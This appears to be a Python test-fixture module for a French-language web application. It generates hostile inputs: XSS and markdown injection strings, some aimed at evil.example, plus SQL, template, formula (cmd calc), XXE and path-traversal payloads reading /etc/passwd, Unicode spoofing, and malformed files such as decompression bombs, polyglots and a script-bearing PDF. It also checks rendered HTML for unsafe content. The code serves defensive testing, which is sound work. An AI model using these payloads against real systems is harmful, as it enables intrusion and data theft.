"""Hostile texts and files, for every field, every renderer and every upload. Files are built here, none is stored."""

import struct
import zipfile
import zlib
from html.parser import HTMLParser
from io import BytesIO
from urllib.parse import urlsplit

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<base href=//evil.example/><form action=//evil.example/><input name=password autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example/x.css>",
    '<p style="background:url(//evil.example/x)">x</p>',
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/x)",
    "[x](/\\evil.example/x)",
    '[x](https://evil.example/"onmouseover="alert(1))',
    "[x](https://evil.example 'titre\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](/fichiers/../cms/)",
    "![x](/fichiers/aaaaaaaaaaaaaaaaaaaaaaaa/%2e%2e/%2e%2e/cms/)",
    "![x](https://evil.example/fichiers/aaaaaaaaaaaaaaaaaaaaaaaa/x.png)",
    "[![x](https://evil.example/pixel.png)](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "![a][b]\n\n[b]: https://evil.example/pixel.png",
    "@[<img src=x onerror=alert(1)>](membre:abc)",
    "@[x](membre:../../cms/)",
    '@[x](membre:abc" onclick="alert(1))',
    'https://evil.example/"><script>alert(1)</script>',
    "```<script>alert(1)</script>\n<script>alert(2)</script>\n```",
    '``` "onmouseover=alert(1)\ncode\n```',
    "| <script>alert(1)</script> | a |\n| --- | --- |\n| <img src=x onerror=alert(1)> | `<b>` |",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div markdown=1>[x](javascript:alert(1))</div>",
]
UNICODE = [
    "facture\u202egnp.exe",
    "\u2066if (admin) {\u2069 \u2066begin\u2069",
    "\u061c\u200f\u202bעברית\u202c et العربية",
    "مرحبا بالعالم",
    "zéro\u200blargeur\u200d\u2060\ufeff",
    "\x00\x01\x08\x0b\x0c\x1b[31mrouge\x1b[0m\x7f\x85\x9f",
    "nul\x00au milieu",
    "\ud800 orphelin \udfff",
    "\ufffe\uffff",
    "e" + "\u0301" * 2_000,
    "Z" + "\u0316\u0301" * 2_000 + "algo",
    "ﷺ" * 200,
    "🏳️‍🌈👩‍👩‍👧‍👦" * 50,
    "\u00a0\u202f\u2003\u3000",
    "İıſK",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "ligne\u2028et\u2029paragraphe",
]
LANGUAGES = [
    "' OR 1=1 --",
    "'; DROP TABLE qa_question; --",
    '" NEAR(a b) AND * OR NOT (',
    "title:secret AND body:*",
    'a* OR "b',
    "%_\\%",
    "{{ 7|add:7 }}{{ settings.SECRET_KEY }}",
    "{% load ui %}{% include '/etc/passwd' %}{# #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s %d %n {0.__class__}",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "BEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    '{"__proto__": {"admin": true}}',
    "null",
    "undefined",
    "-1e309",
]
LONG = ["A" * 5_000, "é" * 3_000, "mot " * 1_200, "\n" * 3_000, " " * 4_000 + "x"]

# Every one of these is at most 5,000 characters: it fits the forms and reaches the renderers.
TEXTS = [*SCRIPTS, *MARKDOWN, *UNICODE, *LANGUAGES, *LONG]


# Shapes that make careless parsers slow: each builds a text of about n characters.
def pathological(n: int) -> dict[str, str]:
    """By name, texts of about `n` characters whose cost must stay proportional to `n`."""

    def fill(piece: str) -> str:
        return piece * (n // len(piece))

    return {
        "opening brackets": fill("["),
        "image brackets": fill("!["),
        "empty links": fill("[]"),
        "unfinished links": fill("[a]("),
        "nested brackets": "[" * (n // 2) + "a" + "]" * (n // 2),
        "link titles": fill('[a](b "'),
        "angle destinations": fill("[a](<b"),
        "stars": fill("*"),
        "spaced stars": fill("*a "),
        "stuck stars": fill("a**b"),
        "mixed emphasis": fill("*a_ "),
        "underscores": fill("_ "),
        "tildes": fill("~~a "),
        "backticks": fill("`"),
        "growing backticks": "".join("`" * size + " " for size in range(1, int((2 * n) ** 0.5))),
        "quotes on a line": fill("> "),
        "quotes in lines": fill(">\n"),
        "quote with lazy lines": "> " * 30 + fill("a\n"),
        "lists on a line": fill("- "),
        "nested list": "".join(" " * (2 * depth) + "- a\n" for depth in range(int(n**0.5))),
        "ordered lists": fill("1. "),
        "narrow table": "|a|\n|-|\n" + fill("|a|\n"),
        "wide table": "|a" * (n // 4) + "|\n" + "|-" * (n // 4) + "|\n",
        "table to complete": "|" * (n // 10) + "\n" + "|-" * (n // 10 - 1) + "|\n" + fill("a\n"),
        "references": "".join(f"[{number}]: u\n" for number in range(n // 9)),
        "open references": fill('[a]: b "\n'),
        "addresses": fill("http://"),
        "angle addresses": fill("<http://"),
        "address with brackets": "http://a.fr/" + fill("("),
        "mails": fill("a@b.fr "),
        "angles": fill("<a "),
        "entities": fill("&a"),
        "backslashes": fill("\\"),
        "headings": fill("#\n"),
        "underlined headings": fill("a\n="),
        "fences": fill("```\n"),
        "blank lines": fill("\n"),
        "spaces": fill(" "),
        "one word": fill("a"),
        "stacked marks": "a" + fill("\u0316\u0301"),
        "mentions": fill("@[a](membre:b)"),
        "openings": fill("<div>"),
        "cells": fill("<td>x"),
    }


class HarmfulHtml(AssertionError):
    pass


_FORBIDDEN_TAGS = {"script", "style", "iframe", "object", "embed", "base", "meta", "link", "svg", "math", "template"}
_FORBIDDEN_TAGS |= {"form", "input", "button", "textarea", "select", "frame", "frameset", "applet", "audio", "video"}
_ADDRESSES = {"href", "src", "action", "formaction", "poster", "srcset", "background", "cite", "data", "xlink:href"}


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FORBIDDEN_TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            self._inspect(tag, name.lower(), value or "")

    def _inspect(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name in ("style", "srcdoc", "http-equiv", "id", "name"):
            self.faults.append(f"<{tag} {name}>")
        if name not in _ADDRESSES:
            return
        # Browsers drop spaces and control characters inside a scheme.
        address = "".join(character for character in value if ord(character) > 32)
        parts = urlsplit(address)
        if parts.scheme.lower() not in ("", "http", "https", "mailto"):
            self.faults.append(f"<{tag} {name}={value!r}>")
        if tag == "img" and (parts.scheme or parts.netloc or not address.startswith("/fichiers/") or ".." in address):
            self.faults.append(f"remote picture {value!r}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}>")


def assert_harmless_html(html: str) -> None:
    """A fragment made from a member's text runs nothing, styles nothing, fetches nothing from elsewhere.

    For fragments only: a whole page rightly has scripts and forms of its own.
    """
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    if inspector.faults:
        raise HarmfulHtml(f"{inspector.faults} in {html[:300]!r}")
    unwanted = [
        character for character in html if character in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\x00"
    ]
    if unwanted:
        raise HarmfulHtml(f"control characters {unwanted} in {html[:300]!r}")


def picture(form: str = "PNG", size: tuple[int, int] = (40, 30), **options) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, (0, 90, 60)).save(out, form, **options)
    return out.getvalue()


def jpeg_with_gps(orientation: int = 6) -> bytes:
    """A picture lying on its side, that says where and by whom it was taken."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Fabricant secret"
    exif[0x8298] = "Auteur secret"
    exif.get_ifd(0x8825).update({1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 21.0, 7.0)})
    return picture("JPEG", exif=exif, comment=b"Commentaire secret")


def png_with_text_and_html_tail() -> bytes:
    """A valid picture with a comment, followed by a page: a polyglot."""
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "Commentaire secret <script>alert(1)</script>")
    return picture("PNG", pnginfo=info) + b"<html><script>alert('secret')</script></html>"


def png_bomb(side: int = 60_000) -> bytes:
    """A few bytes that announce billions of pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def animated_gif() -> bytes:
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    out = BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], comment=b"Commentaire secret")
    return out.getvalue()


SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
HTML = b"<!doctype html><script>alert(1)</script>"


def archive(parts: dict[str, bytes], *, encrypted: bool = False) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    data = out.getvalue()
    if encrypted:
        # The flag of each entry, in its own header (offset 6) and in the directory (offset 8).
        data = data.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00")
        data = data.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00")
    return data


def docx_parts(**more: bytes) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": b"<Relationships/>",
        "docProps/core.xml": b"<cp:coreProperties><dc:creator>Autrice secrete</dc:creator></cp:coreProperties>",
        "docProps/app.xml": b"<Properties><Company>Mairie secrete</Company></Properties>",
        "word/_rels/settings.xml.rels": (
            b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/attachedTemplate" Target="file:///C:/Users/secret/Normal.dotm" TargetMode="External"/>'
            b"</Relationships>"
        ),
        "word/settings.xml": b'<w:settings><w:attachedTemplate r:id="rId1"/><w:zoom/></w:settings>',
        "word/document.xml": b"<w:document><w:body><w:p>Bonjour</w:p></w:body></w:document>",
        **more,
    }


def docx(**more: bytes) -> bytes:
    return archive(docx_parts(**more))


def docm_named_docx() -> bytes:
    return docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 100})


def odt() -> bytes:
    return archive(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<office:document-content>Bonjour</office:document-content>",
            "meta.xml": b"<office:document-meta><meta:creator>Autrice secrete</meta:creator></office:document-meta>",
            "Thumbnails/thumbnail.png": picture(),
        }
    )


def zip_bomb() -> bytes:
    """Fifty megabytes of nothing in fifty kilobytes."""
    return docx(**{"word/media/image1.bmp": b"\0" * (50 * 1024 * 1024)})


def lying_zip() -> bytes:
    """An entry that is far longer than its directory says."""
    data = docx(**{"word/media/zzz.bin": b"A" * 500_000})
    return data.replace(struct.pack("<I", 500_000), struct.pack("<I", 10))


def pdf(*, script: bool = False, password: str = "", embedded: bool = False) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Author": "Autrice secrete", "/Title": "Titre secret"})
    writer.xmp_metadata = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf>Autrice secrete</rdf></x:xmpmeta>"
    if script:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x()")}
        )
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if embedded:
        writer.add_attachment("programme.exe", b"MZ")
    if password:
        writer.encrypt(password, algorithm="RC4-128")
    out = BytesIO()
    writer.write(out)
    return out.getvalue()
